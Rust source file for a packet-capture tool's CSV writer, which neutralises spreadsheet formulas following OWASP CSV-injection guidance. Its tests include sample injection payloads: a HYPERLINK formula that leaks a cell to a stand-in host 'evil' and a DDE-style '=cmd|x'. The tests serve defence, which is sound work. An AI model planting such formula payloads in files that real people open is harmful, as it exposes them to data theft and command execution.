//! The CSV writer, for every table. The per-packet table is the one with a row per frame,
//! so the one place where formatting cost shows next to dissection.
//!
//! Rows are built directly into one reusable byte buffer (numbers with `itoa`, text
//! quoted only when it must be) and handed to the output 64 KiB at a time; a row's cells
//! come from the schema ([`Table::cell`]) and borrow from the record or one reusable
//! scratch string, so a row allocates nothing. Quoting follows the `csv` crate's
//! `QuoteStyle::Necessary` with its default `\n` terminator byte for byte: a field is
//! quoted when it holds `,`, `"`, `\r` or `\n`, and quotes inside are doubled.
//! `tests::quoting_matches_the_csv_crate` and `csv_fast_path_equals_reference` hold it to
//! that. (One difference, for a future choice of columns: the `csv` crate writes a row of
//! one empty field as `""`; this writer writes an empty line.)
//!
//! By default a text cell that a spreadsheet would run as a formula is written with a
//! leading `'` (OWASP's CSV-injection guidance): one that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return, or their full-width forms (`＝`, `＋`, `－`, `＠`), which
//! some spreadsheets take as the ASCII ones. Only text cells are checked (their first
//! byte, so the common case costs one comparison); numbers, times, addresses and booleans
//! never change. [`CsvStyle::verbatim`] writes them as they are, for tools that compare
//! with tshark's text; [`CsvStyle::excel`] starts the file with a UTF-8 byte-order mark
//! and ends rows with CRLF, as Excel expects of a file opened by double-click.

use std::io::{self, Write};
use std::net::IpAddr;

use wirenote_core::capture::Timestamp;

use crate::schema::{dotted_quad, Cell, CellSink, Selection, Table};
use crate::{CsvStyle, WRITE_BLOCK};

/// Rows are written out once this many bytes of them are buffered.
const FLUSH_AT: usize = WRITE_BLOCK;

/// Writes rows as CSV.
pub(crate) struct CsvWriter<W: Write> {
    out: W,
    buf: Vec<u8>,
    scratch: String,
    style: CsvStyle,
    /// The first frame's time, which `time_rel` cells count from.
    origin: Option<Timestamp>,
}

/// Whether a spreadsheet would take `field` for a formula (or a DDE command): it starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return, or a full-width `＝`, `＋`, `－`,
/// `＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20).
#[inline(always)]
pub(crate) fn looks_like_formula(field: &[u8]) -> bool {
    match field.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => true,
        Some(0xEF) => matches!(field.get(1..3), Some([0xBC, 0x9D | 0x8B | 0x8D | 0xA0])),
        _ => false,
    }
}

/// Appends a text cell from the capture: neutralised with a leading `'` when it looks
/// like a formula (unless `verbatim`), then quoted if needed.
#[inline(always)]
fn push_capture_text(buf: &mut Vec<u8>, field: &[u8], verbatim: bool) {
    if !verbatim && looks_like_formula(field) {
        push_neutralised(buf, field);
    } else {
        push_text(buf, field);
    }
}

#[cold]
fn push_neutralised(buf: &mut Vec<u8>, field: &[u8]) {
    let mut prefixed = Vec::with_capacity(field.len() + 1);
    prefixed.push(b'\'');
    prefixed.extend_from_slice(field);
    push_text(buf, &prefixed);
}

/// Whether `field` holds a byte that makes CSV quote it. Eight bytes at a time (a word
/// has a byte equal to `b` when `w ^ b…b` has a zero byte, which the classic
/// `(x - 0x01…) & !x & 0x80…` finds exactly): the Info cell, a hundred bytes a row, was
/// the longest scan of the writer.
fn needs_quotes(field: &[u8]) -> bool {
    const fn splat(b: u8) -> u64 {
        u64::from_ne_bytes([b; 8])
    }
    #[inline(always)]
    fn has_byte(word: u64, b: u8) -> bool {
        let x = word ^ splat(b);
        x.wrapping_sub(splat(0x01)) & !x & splat(0x80) != 0
    }
    let mut words = field.chunks_exact(8);
    for chunk in &mut words {
        let mut bytes = [0u8; 8];
        bytes.copy_from_slice(chunk);
        let word = u64::from_ne_bytes(bytes);
        if has_byte(word, b',')
            || has_byte(word, b'"')
            || has_byte(word, b'\r')
            || has_byte(word, b'\n')
        {
            return true;
        }
    }
    words
        .remainder()
        .iter()
        .any(|&b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
}

/// Appends `field` and its trailing delimiter, quoted if needed.
fn push_text(buf: &mut Vec<u8>, field: &[u8]) {
    if needs_quotes(field) {
        buf.push(b'"');
        if !field.contains(&b'"') {
            // The common case (Info's `[SYN, ACK]`): nothing to double.
            buf.extend_from_slice(field);
            buf.extend_from_slice(b"\",");
            return;
        }
        for (i, part) in field.split(|&b| b == b'"').enumerate() {
            if i > 0 {
                buf.extend_from_slice(b"\"\"");
            }
            buf.extend_from_slice(part);
        }
        buf.push(b'"');
    } else {
        buf.extend_from_slice(field);
    }
    buf.push(b',');
}

/// Appends a field known to hold no byte that needs quoting (numbers, addresses).
#[inline]
fn push_plain(buf: &mut Vec<u8>, field: &[u8]) {
    debug_assert!(!needs_quotes(field));
    buf.extend_from_slice(field);
    buf.push(b',');
}

/// Appends a cell spelled by its `Display` (the cells that are rare, or not per packet),
/// with its trailing delimiter. None of them needs quoting.
fn push_display(buf: &mut Vec<u8>, cell: &Cell<'_>) {
    let start = buf.len();
    let _ = write!(buf, "{cell}");
    debug_assert!(!needs_quotes(&buf[start..]));
    buf.push(b',');
}

/// Appends one cell and its trailing delimiter: the same text as the cell's `Display`,
/// formatted by hand where it is on the per-packet path.
#[inline(always)]
fn push_cell(buf: &mut Vec<u8>, cell: Cell<'_>, verbatim: bool, origin: Option<Timestamp>) {
    match cell {
        Cell::Null => buf.push(b','),
        Cell::UInt(v) => push_plain(buf, itoa::Buffer::new().format(v).as_bytes()),
        Cell::Text(text) => push_capture_text(buf, text.as_bytes(), verbatim),
        Cell::Word(word) => {
            debug_assert!(!looks_like_formula(word.as_bytes()));
            push_plain(buf, word.as_bytes());
        }
        Cell::Since(t) => {
            let nanos = Cell::since_nanos(t, origin);
            if nanos < 0 {
                buf.push(b'-');
            }
            let abs = nanos.unsigned_abs();
            buf.extend_from_slice(itoa::Buffer::new().format(abs / 1_000_000_000).as_bytes());
            let mut padded = itoa::Buffer::new();
            buf.extend_from_slice(
                padded
                    .format((abs % 1_000_000_000) as u32 + 1_000_000_000)
                    .as_bytes(),
            );
            let dot = buf.len() - 10;
            buf[dot] = b'.';
            buf.push(b',');
        }
        Cell::Time(t) if t.nanos < 1_000_000_000 => {
            // `secs.nnnnnnnnn`, as `Timestamp`'s Display and `frame.time_epoch`: the
            // nanoseconds zero-padded by formatting them above 10^9 and dropping the 1.
            buf.extend_from_slice(itoa::Buffer::new().format(t.secs).as_bytes());
            let mut padded = itoa::Buffer::new();
            buf.extend_from_slice(padded.format(t.nanos + 1_000_000_000).as_bytes());
            let dot = buf.len() - 10;
            buf[dot] = b'.';
            buf.push(b',');
        }
        // Dotted quads by hand: `Ipv4Addr`'s Display goes through the formatting machinery.
        Cell::Ip(IpAddr::V4(v4)) => {
            buf.extend_from_slice(dotted_quad(v4).as_bytes());
            buf.push(b',');
        }
        other => push_display(buf, &other),
    }
}

/// The row being built, as the schema's cell sink.
struct Cells<'b> {
    buf: &'b mut Vec<u8>,
    verbatim: bool,
    origin: Option<Timestamp>,
}

impl CellSink for Cells<'_> {
    #[inline(always)]
    fn cell(&mut self, cell: Cell<'_>) {
        push_cell(self.buf, cell, self.verbatim, self.origin);
    }
}

impl<W: Write> CsvWriter<W> {
    pub(crate) fn new(out: W) -> Self {
        CsvWriter {
            out,
            buf: Vec::with_capacity(FLUSH_AT + 4096),
            scratch: String::with_capacity(64),
            style: CsvStyle::default(),
            origin: None,
        }
    }

    pub(crate) fn set_style(&mut self, style: CsvStyle) {
        self.style = style;
    }

    pub(crate) fn set_origin(&mut self, origin: Timestamp) {
        self.origin = Some(origin);
    }

    /// Writes the header row (after the byte-order mark, for Excel).
    pub(crate) fn header<T: Table>(&mut self, columns: &[T]) -> io::Result<()> {
        if self.style.excel {
            self.buf.extend_from_slice("\u{feff}".as_bytes());
        }
        for column in columns {
            push_text(&mut self.buf, column.name().as_bytes());
        }
        self.end_row()
    }

    fn end_row(&mut self) -> io::Result<()> {
        // Every cell ended with a delimiter; the row's last one becomes the terminator.
        if let Some(last) = self.buf.last_mut() {
            if self.style.excel {
                *last = b'\r';
                self.buf.push(b'\n');
            } else {
                *last = b'\n';
            }
        }
        if self.buf.len() >= FLUSH_AT {
            self.out.write_all(&self.buf)?;
            self.buf.clear();
        }
        Ok(())
    }

    /// Writes one row of `record`'s cells for `columns`.
    #[inline]
    pub(crate) fn row<T: Table>(
        &mut self,
        columns: &Selection<T>,
        record: &T::Record,
    ) -> io::Result<()> {
        let mut cells = Cells {
            buf: &mut self.buf,
            verbatim: self.style.verbatim,
            origin: self.origin,
        };
        columns.each_cell(record, &mut self.scratch, &mut cells);
        self.end_row()
    }

    pub(crate) fn flush(&mut self) -> io::Result<()> {
        self.out.write_all(&self.buf)?;
        self.buf.clear();
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn ours(fields: &[Vec<u8>]) -> Vec<u8> {
        let mut buf = Vec::new();
        for field in fields {
            push_text(&mut buf, field);
        }
        *buf.last_mut().unwrap() = b'\n';
        buf
    }

    fn theirs(fields: &[Vec<u8>]) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new()
            .has_headers(false)
            .from_writer(Vec::new());
        w.write_record(fields).unwrap();
        w.into_inner().unwrap()
    }

    #[test]
    fn quoting_examples() {
        let row = [
            b"a".to_vec(),
            b"SYN, ACK".to_vec(),
            b"say \"hi\"".to_vec(),
            b"line\r\nbreak".to_vec(),
            Vec::new(),
        ];
        assert_eq!(
            ours(&row),
            b"a,\"SYN, ACK\",\"say \"\"hi\"\"\",\"line\r\nbreak\",\n".to_vec()
        );
        assert_eq!(ours(&row), theirs(&row));
    }

    fn cell_text(text: &str, verbatim: bool) -> String {
        let mut buf = Vec::new();
        push_cell(&mut buf, Cell::Text(text), verbatim, None);
        buf.pop();
        String::from_utf8(buf).unwrap()
    }

    /// OWASP's CSV-injection guidance: a cell starting with `=`, `+`, `-`, `@`, tab or CR
    /// (or a full-width `＝＋－＠`) gets a leading `'`; quoting still applies; verbatim
    /// writes it as it is; numbers never change.
    #[test]
    fn formula_looking_text_is_neutralised() {
        for (text, want) in [
            ("=1+2", "'=1+2"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("＝1+2", "'＝1+2"),
            ("＠x", "'＠x"),
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"",
            ),
            ("=cmd|x", "'=cmd|x"),
            ("GET /=1", "GET /=1"),
            ("", ""),
            ("→", "→"),
            ("ｘ", "ｘ"),
        ] {
            assert_eq!(cell_text(text, false), want, "{text:?}");
        }
        assert_eq!(cell_text("=1+2", true), "=1+2");
        let mut buf = Vec::new();
        push_cell(
            &mut buf,
            Cell::Since(Timestamp { secs: 1, nanos: 0 }),
            false,
            Some(Timestamp { secs: 3, nanos: 5 }),
        );
        assert_eq!(buf, b"-2.000000005,");
    }

    proptest! {
        #[test]
        fn the_word_scan_finds_what_a_byte_scan_finds(
            field in proptest::collection::vec(
                prop_oneof![Just(b','), Just(b'"'), Just(b'\r'), Just(b'\n'), 0x20u8..0x7f, any::<u8>()],
                0..80,
            ),
            clean in proptest::collection::vec(0x30u8..0x7f, 0..80),
        ) {
            let byte_scan = |f: &[u8]| f.iter().any(|&b| matches!(b, b',' | b'"' | b'\r' | b'\n'));
            prop_assert_eq!(needs_quotes(&field), byte_scan(&field));
            // Long clean text, with one byte that needs quotes at every place.
            prop_assert!(!needs_quotes(&clean));
            for at in 0..clean.len() {
                let mut one = clean.clone();
                one[at] = b'"';
                prop_assert!(needs_quotes(&one), "at {}", at);
            }
        }

        #[test]
        fn quoting_matches_the_csv_crate(
            fields in proptest::collection::vec(
                proptest::collection::vec(
                    prop_oneof![Just(b','), Just(b'"'), Just(b'\r'), Just(b'\n'), Just(b' '), any::<u8>()],
                    0..12,
                ),
                2..8,
            )
        ) {
            prop_assert_eq!(ours(&fields), theirs(&fields));
        }
    }
}
